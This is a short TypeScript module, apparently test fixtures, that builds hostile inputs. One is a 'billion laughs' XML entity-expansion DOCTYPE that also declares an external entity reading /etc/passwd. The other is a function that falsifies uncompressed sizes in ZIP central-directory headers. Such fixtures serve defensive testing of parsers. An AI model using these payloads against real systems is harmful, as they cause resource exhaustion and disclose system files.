/** What stands before the root of a document that would be three billion letters long if its names for things were written out. */
export const LAUGHS = `<!DOCTYPE lolz [<!ENTITY lol0 "lol">${Array.from(
  { length: 10 },
  (_, at) => `<!ENTITY lol${at + 1} "${`&lol${at};`.repeat(10)}">`,
).join('')}<!ENTITY file SYSTEM "file:///etc/passwd">]>`;

/** The same archive, saying of each part that it is so long when unpacked. */
export function lyingAbout(archive: Uint8Array, size: number): Buffer {
  const lying = Buffer.from(archive);
  for (let at = lying.indexOf('PK\x01\x02', 0, 'latin1'); at >= 0; at = lying.indexOf('PK\x01\x02', at + 4, 'latin1'))
    lying.writeUInt32LE(size, at + 24);
  return lying;
}
